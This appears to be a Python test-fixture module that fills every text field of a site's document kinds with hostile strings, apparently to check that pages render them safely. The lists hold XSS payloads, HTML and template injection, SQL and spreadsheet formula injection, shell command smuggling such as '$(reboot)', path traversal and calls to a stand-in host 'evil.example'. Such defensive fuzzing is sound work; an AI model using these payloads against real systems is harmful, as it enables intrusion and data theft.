"""Hundreds of texts that want to be more than letters, on a page, in a file, in a log or in chat."""

from collections.abc import Iterator, Mapping, Sequence
from itertools import product
from pathlib import Path
from typing import Any, cast

from pydantic import ValidationError

from bot.domain.documents.document_kind import Document, DocumentKind

_KINDS = Path(__file__).parent / "domain" / "kinds"

_DEEDS = (
    "alert(1)",
    "document.title='taken'",
    "fetch('//evil.example')",
    "import('/static/x.js')",
    "top.x=1",
)
_AS_SCRIPT = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "data:text/html,<script>{0}</script>",
    '" onmouseover={0} x="',
    "' onmouseover={0} x='",
    "` onmouseover={0} x=`",
    "-->\u003cscript>{0}</script><!--",
    "]]><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</option></select><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "＜script＞{0}＜/script＞",
)
_AS_MARKUP = (
    "<h1>{0}</h1>",
    "</main><nav>{0}</nav>",
    "<base href=//evil.example/>{0}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>{0}",
    "<link rel=stylesheet href=//evil.example/x.css>{0}",
    "<style>*{{display:none}}</style>{0}",
    "<form action=//evil.example><input name={0}>",
    "<button formaction=//evil.example>{0}</button>",
    "<!-- {0}",
    "<plaintext>{0}",
)
_AS_TEMPLATE = (
    "{{{{ {0} }}}}",
    "{{% for x in range(9) %}}{0}{{% endfor %}}",
    "{{{{ ''.__class__.__mro__[1] }}}} {0}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "{{ $login }} {0}",
    "{{ -brand }} {0}",
    "{{count}} {0}",
    "%({0})s %s %n %d",
)
_AS_ORDER = (
    "'; DROP TABLE document; -- {0}",
    '" OR 1=1 -- {0}',
    "=HYPERLINK('//evil.example','{0}')",
    "+cmd|' /C {0}'!A0",
    "@SUM(1+1) {0}",
    "-2+3 {0}",
    "$(reboot) {0}",
    "`reboot` {0}",
    "; reboot # {0}",
    "| reboot {0}",
    "../../etc/{0}",
    "..\\..\\{0}",
    "file:///etc/{0}",
    "//evil.example/{0}",
    "https://user@evil.example/{0}",
    "/ban {0}",
    ".timeout {0} 600",
    "!clear {0}",
    "]\nHost: {0}",
    '"]\n[[gear]]\nslug = "{0}"',
)
_NAMES = ("moss", "a b", "ün", "{0}", "名前")
_SIGNS = (
    "\u202e{0}\u202c",
    "\u202e{0}",
    "\u2066{0}",
    "\u200b{0}\u200b",
    "\ufeff{0}",
    "{0}\u0301\u0302\u0303\u0304\u0305" * 6,
    "{0}" + "\u0e47" * 40,
    "\U000e0041{0}\U000e007f",
    "\ufdfd{0}" * 4,
    "{0}\U0001f469\u200d\U0001f469\u200d\U0001f467" * 6,
    "نص {0} من اليمين",
    "{0}\u2028{0}\u2029{0}",
    "{0}\u00ad{0}\u00ad",
    "{0}\ufffe\uffff",
    "W{0}" * 40,
    "{0}" + "a" * 900,
    "{0} " * 40,
    "\u3000{0}\u3000",
    "ﬁ ﬀ ŉ {0} ẞ İ ı",
    "null undefined NaN {0} true",
)


def _all() -> Iterator[str]:
    for form, deed in product(_AS_SCRIPT, _DEEDS):
        yield form.format(deed)
    for form, name in product((*_AS_MARKUP, *_AS_TEMPLATE, *_AS_ORDER, *_SIGNS), _NAMES):
        yield form.format(name)


_STRIDE = 17

_EACH = tuple(dict.fromkeys(_all()))
HOSTILE = tuple(text for start in range(_STRIDE) for text in _EACH[start::_STRIDE])
"""All of them, each once, and mixed: a page that shows a part shows some of each kind."""


def documents_of(kind: DocumentKind[Any]) -> list[Document]:
    """Return a document of a kind for each text, which stands in each of its fields that takes it.

    Where nobody can name a new one, as the parts of the site are what they are, it is one for the first text.
    """
    first = kind.read((_KINDS / f"{kind.name}.toml").read_text(encoding="utf-8"))[0]
    named = {path[0] for path, to in kind.references if to == kind.name}  # must be there
    table = {name: value for name, value in kind.as_table(first).items() if name not in named}
    if kind.typed(first):
        table.pop("aliases", None)  # no two documents go by one name
    for name in kind.unique:
        table.pop(name, None)  # nor are two the same person, or of one program
    try:
        kind.schema.model_validate(table | {"slug": "1000"})
    except ValidationError:
        return [_filled(kind, table, HOSTILE[0])]
    return [
        _filled(kind, table | {"slug": str(number)}, text) for number, text in enumerate(HOSTILE, start=1000)
    ]


def _filled(kind: DocumentKind[Any], filled: dict[str, Any], text: str) -> Document:
    for place in _texts(filled):
        tried = cast("dict[str, Any]", _with(filled, place, text))
        try:
            kind.schema.model_validate(tried)
        except ValidationError:
            continue  # the field has a form of its own
        filled = tried
    return cast("Document", kind.schema.model_validate(filled))


def _texts(value: object, place: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Yield the places of all texts but the slug."""
    if isinstance(value, str):
        yield place
    elif isinstance(value, Mapping):
        for name, each in cast("Mapping[str, object]", value).items():
            yield from _texts(each, (*place, name)) if name != "slug" else ()
    elif isinstance(value, Sequence):
        for at, each in enumerate(cast("Sequence[object]", value)):
            yield from _texts(each, (*place, at))


def _with(value: object, place: tuple[str | int, ...], text: str) -> object:
    if not place:
        return text
    if isinstance(value, Mapping):
        table = cast("Mapping[str | int, object]", value)
        return {
            name: _with(each, place[1:], text) if name == place[0] else each for name, each in table.items()
        }
    row = cast("Sequence[object]", value)
    return [_with(each, place[1:], text) if at == place[0] else each for at, each in enumerate(row)]
